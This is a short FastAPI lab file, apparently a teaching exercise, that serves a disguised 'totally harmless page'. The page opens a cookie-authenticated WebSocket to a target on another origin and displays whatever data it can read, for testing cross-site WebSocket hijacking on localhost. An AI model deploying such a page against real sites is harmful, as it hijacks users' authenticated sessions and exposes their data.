"""A page from another origin that tries to open a cookie-authenticated WebSocket (P22).

Serve it on another port than the victim (``uvicorn attacker:app --port 8001``) and open
``http://127.0.0.1:8001/?target=ws://127.0.0.1:8000/ws/cookie``: the page shows whatever
the socket lets it read, or how it was refused.
"""

from fastapi import FastAPI
from fastapi.responses import HTMLResponse

app = FastAPI(title="wslab 04: a page from another origin")

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>totally harmless page</title></head>
<body>
<h1>Nothing to see here</h1>
<p id="status">trying…</p>
<pre id="stolen"></pre>
<script>
const target = new URLSearchParams(location.search).get("target");
const ws = new WebSocket(target);
ws.onopen = () => { document.getElementById("status").textContent = "open"; };
ws.onmessage = (event) => { document.getElementById("stolen").textContent += event.data; };
ws.onclose = (event) => {
  document.getElementById("status").textContent = `closed (${event.code})`;
};
</script>
</body></html>
"""


@app.get("/")
async def page() -> HTMLResponse:
    return HTMLResponse(PAGE)
